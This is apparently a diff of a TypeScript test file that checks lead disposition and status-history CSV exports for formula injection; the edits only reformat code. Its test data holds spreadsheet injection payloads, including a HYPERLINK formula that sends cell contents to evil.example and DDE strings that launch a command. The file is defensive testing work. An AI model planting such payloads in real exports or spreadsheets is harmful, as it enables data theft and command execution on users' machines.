@@ -21,13 +21,17 @@ async function bothExports(leadId: string): Promise<[form: string, csv: string, 
   const { client } = business;
   const streamed = await client.GET('/dispositions/lead/{leadId}/export', { params: { path: { leadId } }, headers: { Accept: 'text/csv' }, parseAs: 'text' });
   const { data: json } = await exportAsJson(client, leadId);
-  const streamedStatus = await client.GET('/leads/{id}/status-history/export', { params: { path: { id: leadId } }, headers: { Accept: 'text/csv' }, parseAs: 'text' });
+  const streamedStatus = await client.GET('/leads/{id}/status-history/export', {
+    params: { path: { id: leadId } },
+    headers: { Accept: 'text/csv' },
+    parseAs: 'text',
+  });
   const { data: jsonStatus } = await client.GET('/leads/{id}/status-history/export', { params: { path: { id: leadId } } });
   return [
     ['the text/csv stream', streamed.data as string, 'dispositionId'],
-    ['the JSON document\'s csv', json.csv, 'dispositionId'],
-    ['the status history\'s text/csv stream', streamedStatus.data as string, 'leadStatusChangeId'],
-    ['the status history\'s JSON csv', (jsonStatus as { csv: string }).csv, 'leadStatusChangeId'],
+    ["the JSON document's csv", json.csv, 'dispositionId'],
+    ["the status history's text/csv stream", streamedStatus.data as string, 'leadStatusChangeId'],
+    ["the status history's JSON csv", (jsonStatus as { csv: string }).csv, 'leadStatusChangeId'],
   ];
 }
 
@@ -36,9 +40,9 @@ const shown = (sent: string) => (/^[=+\-@\t\r]/.test(sent) ? `'${sent}` : sent);
 
 const hostileText = [
   '=HYPERLINK("http://evil.example/?"&A1,"Open")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   'line one\nline two',
@@ -54,7 +58,15 @@ test('when notes and outcomes hold formulas and bare CR or LF, then both exports
   const lead = await createLead(business.client);
   const created: DispositionResponse[] = [];
   for (const [i, text] of hostileText.entries()) {
-    created.push(await createDisposition(business.client, lead.id, { outcome: text, notes: text, reason: text, assignedToUserId: text.slice(0, 200), timestamp: `2026-01-01T00:00:${String(59 - i).padStart(2, '0')}.000Z` }));
+    created.push(
+      await createDisposition(business.client, lead.id, {
+        outcome: text,
+        notes: text,
+        reason: text,
+        assignedToUserId: text.slice(0, 200),
+        timestamp: `2026-01-01T00:00:${String(59 - i).padStart(2, '0')}.000Z`,
+      }),
+    );
   }
 
   for (const [form, csv, idColumn] of await bothExports(lead.id)) {
